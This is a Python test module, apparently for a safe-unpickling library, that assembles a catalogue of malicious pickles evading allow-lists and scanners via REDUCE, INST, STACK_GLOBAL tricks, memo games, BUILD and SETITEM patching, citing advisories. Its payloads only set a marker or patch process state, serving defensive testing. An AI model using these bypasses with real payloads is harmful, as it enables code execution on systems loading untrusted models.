"""Pickles that do what their reader did not ask for, each with the proof that plain pickle does it.

A small assembler comes first: opcodes by name (`op`), and a `Form` that spells values, names and
calls as one protocol does. Behind it stands the catalogue: `ATTACKS`, one record for each way
around a list of names that has been found in some tool or by us. What they run does no harm: it
notes in `attack_marks` that it ran, or changes what the process that is attacked can look at.

Nothing of fastpersist is imported here.
"""

from __future__ import annotations

import io
import pickletools
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

OPCODES = {opcode.name: opcode for opcode in pickletools.opcodes}
_PACKED = {"uint1": "<B", "uint2": "<H", "int4": "<i", "uint4": "<I", "uint8": "<Q"}
_COUNTED = {
    "string1": "<B",
    "string4": "<i",
    "bytes1": "<B",
    "bytes4": "<I",
    "bytes8": "<Q",
    "bytearray8": "<Q",
    "unicodestring1": "<B",
    "unicodestring4": "<I",
    "unicodestring8": "<Q",
    "long1": "<B",
    "long4": "<i",
}

# ---------------------------------------------------------------- the assembler


def op(name: str, argument: object = None) -> bytes:
    """One opcode, by the name that pickletools has for it, with its argument encoded."""
    opcode = OPCODES[name]
    code = opcode.code.encode("latin1")
    kind = opcode.arg.name if opcode.arg is not None else None
    if kind is None:
        return code
    if kind in _PACKED:
        return code + struct.pack(_PACKED[kind], argument)
    if kind == "float8":
        return code + struct.pack(">d", argument)
    if kind.startswith("long") and isinstance(argument, int):
        n_bytes = argument.bit_length() // 8 + 1 if argument else 0
        argument = argument.to_bytes(n_bytes, "little", signed=True)
    if isinstance(argument, str):
        encoding = "raw-unicode-escape" if kind == "unicodestringnl" else "utf-8"
        argument = argument.encode(encoding, "surrogatepass")
    if kind in _COUNTED:
        return code + struct.pack(_COUNTED[kind], len(argument)) + argument
    if kind == "stringnl_noescape_pair":
        return code + argument.replace(b" ", b"\n", 1) + b"\n"
    return code + (argument if isinstance(argument, bytes) else str(argument).encode()) + b"\n"


def proto(n: int) -> bytes:
    return op("PROTO", n) if n >= 2 else b""


STOP, POP, DUP, MARK, NONE = (op(name) for name in ("STOP", "POP", "DUP", "MARK", "NONE"))
REDUCE, BUILD, NEWOBJ, TUPLE = (op(name) for name in ("REDUCE", "BUILD", "NEWOBJ", "TUPLE"))
STACK_GLOBAL, MEMOIZE = op("STACK_GLOBAL"), op("MEMOIZE")


@dataclass(frozen=True)
class Form:
    """How a protocol spells things."""

    protocol: int

    def text(self, text: str) -> bytes:
        if self.protocol == 0:
            for escaped in "\\\0\n\r\x1a":
                text = text.replace(escaped, f"\\u{ord(escaped):04x}")
            return op("UNICODE", text)
        data = text.encode("utf-8", "surrogatepass")
        if self.protocol < 4 or len(data) > 255:
            return op("BINUNICODE", data)
        return op("SHORT_BINUNICODE", data)

    def number(self, n: int) -> bytes:
        if self.protocol == 0:
            return op("INT", n)
        if 0 <= n < 256:
            return op("BININT1", n)
        if -(1 << 31) <= n < 1 << 31:
            return op("BININT", n)
        return op("LONG1", n) if self.protocol >= 2 else op("LONG", f"{n}L")

    def data(self, data: bytes) -> bytes:
        if self.protocol >= 3:
            return op("BINBYTES", data)
        return self.call(
            self.name("_codecs", "encode"), self.text(data.decode("latin1")), self.text("latin1")
        )

    def name(self, module: str, name: str) -> bytes:
        if self.protocol >= 4:
            return self.text(module) + self.text(name) + STACK_GLOBAL
        return op("GLOBAL", f"{module} {name}")

    def tuple(self, *items: bytes) -> bytes:
        if not items and self.protocol >= 1:
            return op("EMPTY_TUPLE")
        if 1 <= len(items) <= 3 and self.protocol >= 2:
            return b"".join(items) + op(f"TUPLE{len(items)}")
        return MARK + b"".join(items) + TUPLE

    def list(self, *items: bytes) -> bytes:
        if self.protocol == 0:
            return MARK + b"".join(items) + op("LIST")
        return op("EMPTY_LIST") + MARK + b"".join(items) + op("APPENDS")

    def dict(self, *items: tuple[bytes, bytes]) -> bytes:
        flat = b"".join(key + value for key, value in items)
        if self.protocol == 0:
            return MARK + flat + op("DICT")
        return op("EMPTY_DICT") + MARK + flat + op("SETITEMS")

    def call(self, function: bytes, *arguments: bytes) -> bytes:
        return function + self.tuple(*arguments) + REDUCE

    def new(self, cls: bytes, *arguments: bytes) -> bytes:
        if self.protocol >= 2:
            return cls + self.tuple(*arguments) + NEWOBJ
        return self.call(self.name("copyreg", "__newobj__"), cls, *arguments)

    def attributes(self, **values: bytes) -> bytes:
        return self.dict(*((self.text(key), value) for key, value in values.items()))

    def slots(self, **values: bytes) -> bytes:
        """A state that is set attribute by attribute."""
        return self.tuple(NONE, self.attributes(**values))

    # What most attacks end in.

    def exec_(self) -> bytes:
        return self.name("builtins", "exec")

    def code(self) -> bytes:
        return self.text(CODE)

    def payload(self) -> bytes:
        return self.call(self.exec_(), self.code())

    def ours(self, name: str) -> bytes:
        return self.name("attack_marks", name)


CODE = "__import__('attack_marks').mark()"
MARKED = "attack_marks.marks"


def plain(protocol: int, body: bytes) -> bytes:
    return proto(protocol) + body + STOP


# ---------------------------------------------------------------- the catalogue

REFUSED, HARMLESS = "refused", "harmless"


@dataclass(frozen=True)
class Attack:
    """One way to have a reader do what it was not asked for.

    `shows` is a Python expression, true in the process in which plain pickle has read the file up
    to its end or to its first exception (`value` is what was read last, `values` all); "" where
    plain pickle fails, hangs or crashes, or where nothing can be seen.
    """

    name: str
    reference: str
    shows: str
    outcome: str
    protocols: tuple[int, ...]
    body: Callable[[Form], bytes] | None = None
    whole: Callable[[], dict[str, bytes]] | None = None
    needs: str = ""
    always: bool = True

    def pickles(self) -> dict[str, bytes]:
        """Its plain pickles, or other files without a codec, by a label."""
        if self.whole is not None:
            return self.whole()
        assert self.body is not None
        return {f"protocol {p}": plain(p, self.body(Form(p))) for p in self.protocols}

    def opcodes(self) -> bytes | None:
        """What can stand in another layout: without PROTO and STOP."""
        return None if self.body is None else self.body(Form(self.protocols[-1]))


ATTACKS: list[Attack] = []
OLD_AND_NEW = (0, 2, 4)


def attack(
    reference: str,
    shows: str = MARKED,
    protocols: tuple[int, ...] = OLD_AND_NEW,
    outcome: str = REFUSED,
    needs: str = "",
) -> Callable[[Callable[[Form], bytes]], Callable[[Form], bytes]]:
    def note(body: Callable[[Form], bytes]) -> Callable[[Form], bytes]:
        name = body.__name__.strip("_").replace("_", " ")
        ATTACKS.append(Attack(name, reference, shows, outcome, protocols, body, needs=needs))
        return body

    return note


def whole(
    reference: str, shows: str = MARKED, outcome: str = REFUSED, always: bool = True
) -> Callable[[Callable[[], dict[str, bytes]]], Callable[[], dict[str, bytes]]]:
    """An attack that is more, or less, than one pickle; not `always`: plain pickle refuses some."""

    def note(files: Callable[[], dict[str, bytes]]) -> Callable[[], dict[str, bytes]]:
        name = files.__name__.strip("_").replace("_", " ")
        ATTACKS.append(Attack(name, reference, shows, outcome, (), whole=files, always=always))
        return files

    return note


# ---- calls


@attack("pickle's documentation")
def reduce(f):
    return f.payload()


@attack("pickle's documentation")
def reduce_of_eval_in_the_middle_of_a_list(f):
    call = f.call(f.name("builtins", "eval"), f.code())
    return f.list(f.number(1), call, f.text("end"))


@attack("picklescan#13", protocols=(0, 1, 2, 3, 4, 5))
def inst(f):
    return MARK + f.code() + op("INST", "builtins exec")


@attack("picklescan#13", protocols=(0, 4))
def inst_of_a_class(f):
    return MARK + f.number(1) + op("INST", "attack_marks Called")


@attack("GHSA-mxhj-88fx-4pcv", protocols=(1, 2, 4))
def obj(f):
    return MARK + f.exec_() + f.code() + op("OBJ")


@attack("GHSA-mxhj-88fx-4pcv", protocols=(1, 2, 4))
def obj_and_pop(f):
    return f.list(f.number(1)) + MARK + f.exec_() + f.code() + op("OBJ") + POP


@attack("GHSA-mxhj-88fx-4pcv", protocols=OLD_AND_NEW)
def inst_and_pop(f):
    return f.list(f.number(1)) + MARK + f.code() + op("INST", "builtins exec") + POP


@attack("GHSA-mxhj-88fx-4pcv")
def reduce_and_pop(f):
    return f.payload() + POP + f.list(f.number(1))


@attack("GHSA-mxhj-88fx-4pcv", protocols=(1, 2, 4))
def reduce_and_pop_mark(f):
    return MARK + f.payload() + op("POP_MARK") + f.number(1)


@attack("GHSA-mhc9-48gj-9gp3")
def reduce_and_build(f):
    return f.call(f.ours("mark")) + f.attributes(a=f.number(1)) + BUILD


@attack("GHSA-mhc9-48gj-9gp3")
def reduce_and_build_of_none(f):
    return f.payload() + NONE + BUILD


@attack("a call whose callable is the result of a call")
def partial_and_reduce(f):
    partial = f.call(f.name("functools", "partial"), f.exec_(), f.code())
    return f.call(partial)


@attack("a callable that gets its function by BUILD", protocols=(2, 4))
def partial_and_build(f):
    partial = f.call(f.name("functools", "partial"), f.name("builtins", "len"))
    state = f.tuple(f.exec_(), f.tuple(f.code()), f.dict(), f.dict())
    return f.call(partial + state + BUILD)


@attack("GHSA-9gvj-pp9x-gcfr: what is called is found by calls")
def getattr_of_an_import(f):
    module = f.call(f.name("builtins", "__import__"), f.text("attack_marks"))
    return f.call(f.call(f.name("builtins", "getattr"), module, f.text("mark")))


@attack("operator.attrgetter, methodcaller")
def attrgetter_of_a_module(f):
    module = f.call(f.name("importlib", "import_module"), f.text("attack_marks"))
    caller = f.call(f.name("operator", "methodcaller"), f.text("mark"))
    return f.call(caller, module)


@attack("NEWOBJ calls what the class has as __new__", protocols=(2, 4))
def newobj(f):
    return f.new(f.ours("New"))


@attack("NEWOBJ_EX with keywords", protocols=(4, 5))
def newobj_ex(f):
    keywords = f.attributes(a=f.number(1))
    return f.ours("New") + f.tuple() + keywords + op("NEWOBJ_EX")


@attack("lazy map, consumed by a container", protocols=(2, 4))
def map_consumed_by_deque(f):
    lazy = f.new(f.name("builtins", "map"), f.exec_(), f.list(f.code()))
    return f.call(f.name("collections", "deque"), lazy)


@attack("lazy map, consumed by a constructor of bytes", protocols=(2, 4))
def map_consumed_by_newobj_of_bytes(f):
    lazy = f.new(f.name("builtins", "map"), f.exec_(), f.list(f.code()))
    return f.new(f.name("builtins", "tuple"), lazy)


@attack("copyreg's helpers call classes that are arguments")
def newobj_by_copyreg(f):
    return f.call(f.name("copyreg", "__newobj__"), f.ours("New"))


@attack("copyreg's helpers call classes that are arguments", protocols=(2, 4))
def newobj_ex_by_copyreg(f):
    return f.call(f.name("copyreg", "__newobj_ex__"), f.ours("New"), f.tuple(), f.dict())


@attack("copyreg._reconstructor calls __init__ of its second argument")
def reconstructor(f):
    return f.call(
        f.name("copyreg", "_reconstructor"),
        f.ours("New"),
        f.ours("New"),
        NONE,
    )


@attack("a metaclass's __call__")
def call_of_a_class_with_a_metaclass(f):
    return f.call(f.ours("OfMeta"))


@attack("a class called with arguments, by one that is approved", needs="numpy")
def generator_constructor_calls_its_argument(f):
    ctor = f.name("numpy.random._pickle", "__generator_ctor")
    return f.call(ctor, f.code(), f.exec_())


@attack("a class called with arguments, by one that is approved", needs="numpy")
def bit_generator_constructor_calls_its_argument(f):
    return f.call(f.name("numpy.random._pickle", "__bit_generator_ctor"), f.ours("Called"))


@attack("numpy.core._ufunc_reconstruct imports by name", "value.__name__ == 'mark'", needs="numpy")
def ufunc_reconstruct_imports(f):
    ufunc = f.name("numpy.core", "_ufunc_reconstruct")
    return f.call(ufunc, f.text("attack_marks"), f.text("mark"))


@attack("_reconstruct makes any subclass", needs="numpy")
def reconstruct_of_another_class(f):
    function = f.name("numpy._core.multiarray", "_reconstruct")
    return f.call(function, f.ours("Array"), f.tuple(f.number(0)), f.data(b"b"))


@attack("numpy.ma makes any subclass", needs="numpy")
def mareconstruct_of_another_class(f):
    function = f.name("numpy.ma.core", "_mareconstruct")
    ndarray = f.name("numpy", "ndarray")
    masked = f.name("numpy.ma", "MaskedArray")
    return f.list(
        f.call(function, masked, f.ours("Array"), f.tuple(f.number(0)), f.text("b")), ndarray
    )


@attack("newObj(cls) of compiled modules calls cls.__new__", needs="sklearn")
def newobj_of_a_compiled_module(f):
    return f.call(f.name("sklearn.neighbors._kd_tree", "newObj"), f.ours("New"))


@attack("_new_Index(cls, dict) calls cls.__new__ with keywords", needs="pandas")
def new_index(f):
    return f.call(f.name("pandas.core.indexes.base", "_new_Index"), f.ours("New"), f.dict())


@attack("unpicklers of compiled classes, with another class", "", needs="numpy")
def pyx_unpickle_of_another_class(f):
    function = f.name("numpy.random.bit_generator", "__pyx_unpickle_SeedSequence")
    return f.call(function, f.ours("New"), f.number(1), NONE)


@attack("the result of an approved call, called", protocols=(2, 4))
def call_of_an_instance(f):
    return f.call(f.call(f.name("functools", "partial"), f.ours("mark")))


@attack("re-entering a loader: pickle.loads of bytes in the pickle")
def pickle_in_bytes(f):
    return f.call(f.name("pickle", "loads"), f.data(plain(4, Form(4).payload())))


@attack("re-entering a loader: _pickle.loads of bytes in the pickle")
def pickle_in_bytes_by_its_other_name(f):
    return f.call(f.name("_pickle", "loads"), f.data(plain(4, Form(4).payload())))


@attack("re-entering a loader: pickle._loads of bytes in the pickle")
def pickle_in_bytes_by_the_python_version(f):
    return f.call(f.name("pickle", "_loads"), f.data(plain(2, Form(2).payload())))


@attack("re-entering a loader: ours")
def pickle_in_bytes_by_ours(f):
    return f.call(f.name("fastpersist", "loads"), f.data(plain(4, Form(4).payload())))


@attack("re-entering a loader: our core's")
def pickle_in_bytes_by_our_core(f):
    return f.call(f.name("fastpersist._core", "loads"), f.data(plain(4, Form(4).payload())))


@attack("re-entering a loader: an Unpickler over a file object")
def unpickler_over_bytes(f):
    file = f.call(f.name("_io", "BytesIO"), f.data(plain(4, Form(4).payload())))
    unpickler = f.call(f.name("pickle", "_Unpickler"), file)
    return f.call(f.call(f.name("operator", "methodcaller"), f.text("load")), unpickler)


@attack("re-entering a loader: joblib's", needs="joblib")
def pickle_in_bytes_by_joblib(f):
    file = f.call(f.name("_io", "BytesIO"), f.data(plain(4, Form(4).payload())))
    return f.call(f.name("joblib", "load"), file)


# ---- names


@attack("GHSA-5j3x-jp52-966f", "value == os.getpid()", protocols=(4, 5), needs="sklearn")
def dotted_name_below_a_module_that_is_approved(f):
    return f.call(f.name("sklearn._config", "os.getpid"))


@attack("GHSA-5j3x-jp52-966f", "value == os.getpid()", protocols=(4, 5))
def dotted_name_below_our_own_module(f):
    return f.call(f.name("fastpersist", "os.getpid"))


@attack("GHSA-5j3x-jp52-966f", "value is sys.modules", protocols=(4, 5))
def dotted_name_to_sys_modules(f):
    return f.name("collections", "_sys.modules")


@attack("GHSA-5j3x-jp52-966f", "callable(value)", protocols=(4, 5))
def dotted_name_of_a_method(f):
    return f.name("builtins", "dict.get")


@attack("GHSA-5j3x-jp52-966f", "value is type", protocols=(4, 5))
def dotted_name_of_a_metaclass(f):
    return f.name("collections", "OrderedDict.__class__")


@attack("GHSA-5j3x-jp52-966f", "dict in value", protocols=(4, 5))
def dotted_name_of_bases(f):
    return f.name("collections", "OrderedDict.__bases__")


@attack("GHSA-5j3x-jp52-966f", "len(value) > 20", protocols=(4, 5))
def dotted_name_of_subclasses(f):
    return f.call(f.name("builtins", "object.__subclasses__"))


@attack("globals of a function, patched", "collections.patched == 1", protocols=(4, 5))
def dotted_name_of_globals(f):
    globals_ = f.name("collections", "namedtuple.__globals__")
    return globals_ + MARK + f.text("patched") + f.number(1) + op("SETITEMS")


@attack("numpy's own __builtins__", protocols=(4, 5), needs="numpy")
def dotted_name_of_builtins(f):
    return f.call(
        f.name("collections", "namedtuple.__builtins__.__class__.get") + POP + f.exec_(), f.code()
    )


@attack("names of Python 2, mapped", protocols=(0, 1, 2))
def python_2_name(f):
    return f.call(f.name("__builtin__", "eval"), f.code())


@attack("names of Python 2, mapped", "value == 'marked'", protocols=(0, 1, 2))
def python_2_module(f):
    return f.call(f.name("commands", "getoutput"), f.text("printf marked"))


@attack("names of Python 2, mapped", protocols=(0, 1, 2))
def python_2_name_that_moved(f):
    mark = f.call(f.name("__builtin__", "apply"), f.ours("mark"), f.tuple())
    reduce = f.name("__builtin__", "reduce")
    return f.call(reduce, f.ours("mark"), f.list(f.number(1), f.number(2))) + mark


@attack("GHSA-9gvj-pp9x-gcfr", protocols=(4,))
def stack_global_of_string_opcodes(f):
    names = op("STRING", "'builtins'") + op("STRING", "'exec'")
    return f.call(names + STACK_GLOBAL, f.code())


@attack("GHSA-9gvj-pp9x-gcfr", protocols=(4,))
def stack_global_of_short_binstrings(f):
    names = op("SHORT_BINSTRING", b"builtins") + op("BINSTRING", b"exec")
    return f.call(names + STACK_GLOBAL, f.code())


@attack("GHSA-9gvj-pp9x-gcfr", protocols=(4,))
def stack_global_of_unicode_with_escapes(f):
    names = op("UNICODE", rb"\u0062uiltins") + op("UNICODE", rb"\u0065xec")
    return f.call(names + STACK_GLOBAL, f.code())


@attack("GHSA-9gvj-pp9x-gcfr", protocols=(4,))
def stack_global_of_long_texts(f):
    names = op("BINUNICODE8", "builtins") + op("BINUNICODE", "exec")
    return f.call(names + STACK_GLOBAL, f.code())


@attack("GHSA-9gvj-pp9x-gcfr", protocols=(4,))
def stack_global_of_a_computed_text(f):
    name = f.call(f.name("_operator", "concat"), f.text("ex"), f.text("ec"))
    return f.call(f.text("builtins") + name + STACK_GLOBAL, f.code())


@attack("GHSA-9gvj-pp9x-gcfr", protocols=(4,))
def stack_global_of_decoded_bytes(f):
    name = f.call(f.name("_codecs", "decode"), op("SHORT_BINBYTES", b"exec"), f.text("ascii"))
    return f.call(f.text("builtins") + name + STACK_GLOBAL, f.code())


@attack("GHSA-9gvj-pp9x-gcfr: with an approved call alone", protocols=(4,))
def stack_global_of_a_text_that_an_approved_call_made(f):
    name = f.call(f.name("builtins", "str"), op("SHORT_BINBYTES", b"exec"), f.text("ascii"))
    return f.call(f.text("builtins") + name + STACK_GLOBAL, f.code())


@attack("GHSA-9gvj-pp9x-gcfr", "", protocols=(4,))
def stack_global_of_bytes(f):
    return f.payload() + op("SHORT_BINBYTES", b"os") + op("SHORT_BINBYTES", b"a") + STACK_GLOBAL


@attack("picklescan#14", protocols=(4,))
def stack_global_of_memoized_texts(f):
    texts = f.text("builtins") + MEMOIZE + POP + f.text("exec") + MEMOIZE + POP
    return f.call(texts + op("BINGET", 0) + op("BINGET", 1) + STACK_GLOBAL, f.code())


@attack("picklescan#14: the text between is not the name", protocols=(4,))
def stack_global_behind_texts_that_are_popped(f):
    names = f.text("collections") + f.text("builtins") + f.text("exec")
    lure = f.text("OrderedDict") + POP
    return f.call(names + lure + STACK_GLOBAL, f.code()) + op("TUPLE2")


@attack(
    "GHSA-9gvj-pp9x-gcfr: DUP in place of a second text", "value.__name__ == 'time'", protocols=(4,)
)
def stack_global_of_one_text_twice(f):
    return f.text("time") + DUP + STACK_GLOBAL


# ---- memo


@attack("picklescan#22: numbers of PUT in several spellings", protocols=(4,))
def memo_numbers_mixed(f):
    texts = f.text("builtins") + op("LONG_BINPUT", 300) + POP + f.text("exec") + op("PUT", "7")
    return f.call(texts + POP + op("GET", "300") + op("BINGET", 7) + STACK_GLOBAL, f.code())


@attack("picklescan#22: numbers that int() takes", protocols=(0, 4))
def memo_numbers_with_signs_and_underscores(f):
    put = f.exec_() + op("PUT", "1_2") + POP + NONE + op("PUT", "12345") + POP
    return f.call(put + op("GET", " +12"), f.code())


@attack("picklescan#52: MEMOIZE numbers by how many there are", protocols=(4,))
def memo_with_holes(f):
    put = f.text("collections") + op("BINPUT", 9) + POP
    put += f.text("builtins") + MEMOIZE + POP + f.text("exec") + MEMOIZE + POP
    return f.call(put + op("BINGET", 1) + op("BINGET", 2) + STACK_GLOBAL, f.code())


@attack("a memo entry written over", protocols=(2, 4))
def memo_written_over(f):
    put = f.name("builtins", "len") + op("BINPUT", 0) + POP + f.exec_() + op("BINPUT", 0) + POP
    return f.call(put + op("BINGET", 0), f.code())


@attack("a memo entry of a list that changes", protocols=(2, 4))
def memo_of_a_list_that_holds_a_function(f):
    return op("EMPTY_LIST") + op("BINPUT", 0) + f.payload() + op("APPEND") + op("BINGET", 0) + POP


@attack("picklescan#14: GET before PUT, behind the call", protocols=(2, 4))
def memo_read_before_it_is_written(f):
    return f.payload() + op("BINGET", 200) + op("BINPUT", 200)


@attack("picklescan#14: GET of nothing, behind the call", protocols=(2, 4))
def memo_without_the_entry(f):
    return f.payload() + op("LONG_BINGET", 1 << 31)


@attack("names of a call in other orders", protocols=(4,))
def names_below_a_mark(f):
    function = MARK + f.name("builtins", "len") + op("POP_MARK") + f.exec_()
    return f.call(function + DUP + POP, f.code())


# ---- extension codes


@attack("EXT codes, registered by the pickle", protocols=(2, 4))
def extension_registered_by_the_pickle(f):
    add = f.call(
        f.name("copyreg", "add_extension"), f.text("builtins"), f.text("exec"), f.number(200)
    )
    return add + POP + f.call(op("EXT1", 200), f.code())


@attack("EXT codes, registered by the program", protocols=(2, 4))
def extension_of_one_byte(f):
    return f.call(op("EXT1", 0x7A))


@attack("EXT codes, registered by the program", protocols=(2, 4))
def extension_of_two_bytes(f):
    return f.call(op("EXT2", 0x7A7A))


@attack("EXT codes, registered by the program", protocols=(2, 4))
def extension_of_four_bytes(f):
    return f.new(op("EXT4", 0x7A7A7A))


# ---- BUILD


@attack("TRUST: BUILD on a class is setattr", "collections.Counter.most_common == 'patched'")
def build_on_a_class_that_is_approved(f):
    cls = f.name("collections", "Counter")
    return cls + f.slots(most_common=f.text("patched")) + BUILD


@attack("BUILD on a class, by an approved name", "value.__doc__ == 'patched'", needs="sklearn")
def build_on_a_class_of_a_library(f):
    cls = f.name(*FOLD)
    return cls + f.slots(__doc__=f.text("patched")) + BUILD


@attack("BUILD on a class gives it a __setstate__, which the next BUILD calls", protocols=(2, 4))
def build_on_a_class_then_on_an_instance(f):
    cls = f.name("collections", "Counter")
    cls += f.slots(__setstate__=f.exec_()) + BUILD
    return f.new(cls) + f.code() + BUILD


@attack("modelscan#85: BUILD on a function", "sklearn.base.clone.patched == 1", needs="sklearn")
def build_on_a_function(f):
    return f.name("sklearn.base", "clone") + f.attributes(patched=f.number(1)) + BUILD


@attack(
    "modelscan#85: BUILD on a function", "sklearn.base.clone.__defaults__ == (1,)", needs="sklearn"
)
def build_of_a_functions_defaults(f):
    return f.name("sklearn.base", "clone") + f.slots(__defaults__=f.tuple(f.number(1))) + BUILD


@attack("modelscan#85: BUILD on a module", "os.path.patched == 1")
def build_on_a_module(f):
    return f.name("os", "path") + f.attributes(patched=f.number(1)) + BUILD


@attack("modelscan#85: BUILD on a module of a library", "numpy.random.patched == 1", needs="numpy")
def build_on_a_module_of_a_library(f):
    return f.name("numpy", "random") + f.attributes(patched=f.number(1)) + BUILD


@attack("BUILD on a class, then fetched as a global", protocols=(4, 5))
def build_on_a_class_then_fetched_as_a_name(f):
    cls = f.name("collections", "Counter")
    cls += f.slots(hidden=f.exec_()) + BUILD + POP
    return cls + f.call(f.name("collections", "Counter.hidden"), f.code())


@attack("BUILD on a module, then fetched as a global", protocols=OLD_AND_NEW)
def build_on_a_module_then_fetched_as_a_name(f):
    module = f.name("os", "path") + f.attributes(hidden=f.exec_()) + BUILD + POP
    return module + f.call(f.name("posixpath", "hidden"), f.code())


@attack("__setstate__ in an instance's own dict, which the next BUILD calls", needs="sklearn")
def build_of_a_setstate_in_the_instance(f):
    instance = f.new(f.name("collections", "OrderedDict"))
    instance += f.attributes(__setstate__=f.exec_()) + BUILD
    return instance + f.code() + BUILD


@attack("a __setstate__ that nobody listed", protocols=(2, 4))
def build_calls_setstate(f):
    return f.new(f.ours("State")) + f.dict() + BUILD


@attack("slot state runs setters", protocols=(2, 4))
def build_calls_a_propertys_setter(f):
    return f.new(f.ours("Property")) + f.slots(value=NONE) + BUILD


@attack("slot state runs __setattr__", protocols=(2, 4))
def build_calls_setattr(f):
    return f.new(f.ours("Attribute")) + f.slots(value=NONE) + BUILD


# An estimator, which has a __setstate__, and a class that has none.
LINEAR = ("sklearn.linear_model._base", "LinearRegression")
FOLD = ("sklearn.model_selection._split", "KFold")


@attack("attributes that hide methods", "value.predict is len", needs="sklearn", protocols=(2, 4))
def attribute_that_hides_a_method(f):
    return f.new(f.name(*LINEAR)) + f.attributes(predict=f.name("builtins", "len")) + BUILD


@attack(
    "attributes that hide methods: without a name that is not approved",
    "value.fit is numpy.float64",
    needs="sklearn",
    protocols=(2, 4),
)
def attribute_that_hides_a_method_by_a_class_that_is_approved(f):
    return f.new(f.name(*LINEAR)) + f.attributes(fit=f.name("numpy", "float64")) + BUILD


@attack(
    "a state that changes the class",
    "type(value).__name__ == 'Trace'",
    needs="sklearn",
    protocols=(2, 4),
)
def class_in_a_slot_state(f):
    return f.new(f.name(*FOLD)) + f.slots(__class__=f.ours("Trace")) + BUILD


@attack(
    "a state that changes the class: to one that is approved",
    "type(value).__name__ == 'GroupKFold'",
    needs="sklearn",
    protocols=(2, 4),
)
def class_that_is_approved_in_a_slot_state(f):
    other = f.name("sklearn.model_selection._split", "GroupKFold")
    return f.new(f.name(*FOLD)) + f.slots(__class__=other) + BUILD


@attack(
    "a state that changes the dict", "vars(value) == {'a': 1}", needs="sklearn", protocols=(2, 4)
)
def dict_in_a_slot_state(f):
    return f.new(f.name(*FOLD)) + f.slots(__dict__=f.attributes(a=f.number(1))) + BUILD


@attack(
    "a slot state on an instance without slots",
    "value.split is len",
    needs="sklearn",
    protocols=(2, 4),
)
def slot_state_that_hides_a_method(f):
    return f.new(f.name(*FOLD)) + f.slots(split=f.name("builtins", "len")) + BUILD


def interface(f: Form) -> bytes:
    """No element at address 0; a real attack names others."""
    address = f.tuple(f.number(0), op("NEWTRUE") if f.protocol >= 2 else op("INT", "01"))
    return f.attributes(
        data=address, shape=f.tuple(f.number(0)), typestr=f.text("|u1"), version=f.number(3)
    )


@attack(
    "an instance that NumPy takes for memory at an address",
    "numpy.asarray(value).size == 0",
    needs="sklearn",
    protocols=(2, 4),
)
def array_interface_in_a_state(f):
    return f.new(f.name(*LINEAR)) + f.attributes(__array_interface__=interface(f)) + BUILD


@attack(
    "a Bunch, whose keys are attributes, that NumPy takes for memory at an address",
    "numpy.asarray(value).size == 0",
    needs="sklearn",
    protocols=(2, 4),
)
def array_interface_as_a_key_of_a_bunch(f):
    bunch = f.new(f.name("sklearn.utils._bunch", "Bunch"))
    return bunch + MARK + f.text("__array_interface__") + interface(f) + op("SETITEMS")


@attack(
    "a Bunch, whose keys are attributes, that NumPy asks for an array",
    "callable(value.__array__)",
    needs="sklearn",
    protocols=(2, 4),
)
def array_method_as_a_key_of_a_bunch(f):
    bunch = f.new(f.name("sklearn.utils._bunch", "Bunch"))
    value = f.name("numpy", "float64")
    return bunch + MARK + f.text("__array__") + value + op("SETITEMS")


# ---- items


@attack("CVE-2026-24747: SETITEM of what was fetched by name", "os.environ.get('MARKED') == '1'")
def setitem_on_the_environment(f):
    return f.name("os", "environ") + f.text("MARKED") + f.text("1") + op("SETITEM")


@attack("CVE-2026-24747", "sys.modules['marked'] == 1")
def setitem_on_sys_modules(f):
    return f.name("sys", "modules") + f.text("marked") + f.number(1) + op("SETITEM")


@attack("CVE-2026-24747", "copyreg.dispatch_table[1] == 1")
def setitem_on_dispatch_table(f):
    return f.name("copyreg", "dispatch_table") + f.number(1) + f.number(1) + op("SETITEM")


@attack("CVE-2026-24747", "sklearn._config._global_config['patched'] == 1", needs="sklearn")
def setitem_on_a_librarys_settings(f):
    return (
        f.name("sklearn._config", "_global_config")
        + f.text("patched")
        + f.number(1)
        + op("SETITEM")
    )


@attack(
    "CVE-2026-24747: SETITEMS on the globals of a module", "posixpath.patched == 1", protocols=(4,)
)
def setitems_on_a_modules_dict(f):
    module = f.name("os", "path.__dict__") + MARK
    return module + f.text("patched") + f.number(1) + op("SETITEMS")


@attack("CVE-2026-24747: APPEND to what was fetched by name", "sys.path[-1] == '/marked'")
def append_to_sys_path(f):
    return f.name("sys", "path") + f.text("/marked") + op("APPEND")


@attack(
    "CVE-2026-24747: APPENDS to what was fetched by name",
    "warnings.filters[-1] == 1",
    protocols=(2, 4),
)
def appends_to_warnings_filters(f):
    return f.name("warnings", "filters") + MARK + f.number(1) + op("APPENDS")


@attack("SETITEM on a subclass with its own __setitem__")
def setitem_of_a_subclass_of_ordereddict(f):
    return f.call(f.ours("Mapping")) + f.text("k") + f.number(1) + op("SETITEM")


@attack("SETITEMS on a subclass with its own __setitem__", protocols=(2, 4))
def setitems_of_a_subclass_of_counter(f):
    counting = f.new(f.ours("Counting"))
    return counting + MARK + f.text("k") + f.number(1) + op("SETITEMS")


@attack("SETITEM on an approved class, patched by the pickle", protocols=(2, 4))
def setitem_of_a_class_that_build_has_patched(f):
    cls = f.name("collections", "Counter") + f.slots(__setitem__=f.ours("mark")) + BUILD
    return f.new(cls) + f.text("k") + f.number(1) + op("SETITEM")


@attack("APPENDS calls extend")
def appends_of_a_subclass_of_list(f):
    return f.call(f.ours("Sequence")) + MARK + f.number(1) + f.number(2) + op("APPENDS")


@attack("APPEND calls append")
def append_of_an_object(f):
    return f.call(f.ours("Appender")) + f.number(1) + op("APPEND")


@attack("APPENDS calls append where there is no extend", protocols=(2, 4))
def appends_of_an_object(f):
    return f.new(f.ours("Appender")) + MARK + f.number(1) + op("APPENDS")


@attack("APPEND to an instance that has an own append", protocols=(2, 4))
def append_that_a_state_brought(f):
    instance = f.new(f.name("collections", "OrderedDict"))
    return instance + f.attributes(append=f.exec_()) + BUILD + f.code() + op("APPEND")


@attack("ADDITEMS calls add", protocols=(4, 5))
def additems_of_an_object(f):
    return f.new(f.ours("Adder")) + MARK + f.number(1) + op("ADDITEMS")


@attack("ADDITEMS on a subclass of set (the C unpickler does not ask it)", "", protocols=(4, 5))
def additems_of_a_subclass_of_set(f):
    return f.new(f.ours("Members")) + MARK + f.number(1) + op("ADDITEMS")


@attack("ADDITEMS on an instance that has an own add", protocols=(4, 5))
def additems_that_a_state_brought(f):
    instance = f.new(f.name("collections", "OrderedDict"))
    return instance + f.attributes(add=f.exec_()) + BUILD + MARK + f.code() + op("ADDITEMS")


# ---- hashing and comparing


